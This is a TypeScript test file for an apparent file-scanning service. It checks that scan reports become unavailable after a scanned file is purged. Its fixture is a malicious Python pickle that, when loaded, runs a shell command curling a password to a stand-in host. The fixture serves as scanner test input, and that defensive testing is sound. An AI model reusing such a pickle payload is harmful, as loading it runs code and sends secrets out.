import * as assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { type Client, refused } from "../support/client.ts";
import { TestServer } from "../support/server.ts";
import { openDatabase } from "../support/test_database.ts";

const SECRET = "cos\nsystem\n(S'curl https://example.test/?password=1234'\ntR.";
const md5 = createHash("md5").update(SECRET).digest("hex");
const sha256 = createHash("sha256").update(SECRET).digest("hex");
const PRIVILEGES = ["view", "upload", "edit", "delete", "download"].map((it) => `resources.${it}`);

/** Scans a path, and returns the address of the report. */
async function scan(client: Client, path: string): Promise<string> {
  const reply = await client.json("POST", "/scans/?wait=60", { path });
  const { id } = JSON.parse(reply.text).data;
  return `/scans/${id}/report`;
}

async function resultsOf(server: TestServer): Promise<number> {
  await using database = await openDatabase(server.dataDir);
  const sql = "SELECT count(*) AS count FROM scan_results WHERE hash = :hash";
  return Number((await database.get(sql, { hash: md5 }))?.count);
}

Deno.test("C 26 no report of an earlier scan tells of what was purged, once the tree has it no more", async () => {
  await using server = await TestServer.start({ settings: { history: 86_400_000 } });
  const one = await server.as(1, ...PRIVILEGES, "scans.run", "scans.view");
  const two = await server.as(2, ...PRIVILEGES, "scans.run", "scans.view");
  await one.upload("d", { "secret.pkl": SECRET, "other.txt": "other" });
  await one.copy({ source: "d/secret.pkl", destination: "again.pkl" });
  await two.upload("d", { "secret.pkl": SECRET });
  const [all, other, theirs] = [
    await scan(one, "d"),
    await scan(one, "d/other.txt"),
    await scan(two, "d"),
  ];
  const report = await one.send("GET", all);
  assert.match(report.text, new RegExp(md5));
  assert.equal((await one.remove({ path: "d/secret.pkl", purge: "true" })).status, 200);
  assert.equal((await one.send("GET", all)).text, report.text);
  await one.remove({ path: "again.pkl" });
  assert.equal((await one.send("GET", all)).text, report.text);
  const dropped = await one.send("DELETE", "/resources/trash", { query: { path: "again.pkl" } });
  assert.equal(dropped.status, 200, dropped.text);
  refused(await one.send("GET", all), 409, "ErrScansConflict");
  assert.equal((await one.send("GET", other)).status, 200);
  assert.equal((await two.send("GET", theirs)).status, 200);
  assert.equal(await resultsOf(server), 1);
  const admin = await server.admin();
  assert.equal((await admin.json("POST", "/resources/purge", { sha256 })).status, 200);
  refused(await two.send("GET", theirs), 409, "ErrScansConflict");
  assert.equal((await one.send("GET", other)).status, 200);
  assert.equal(await resultsOf(server), 0);
});
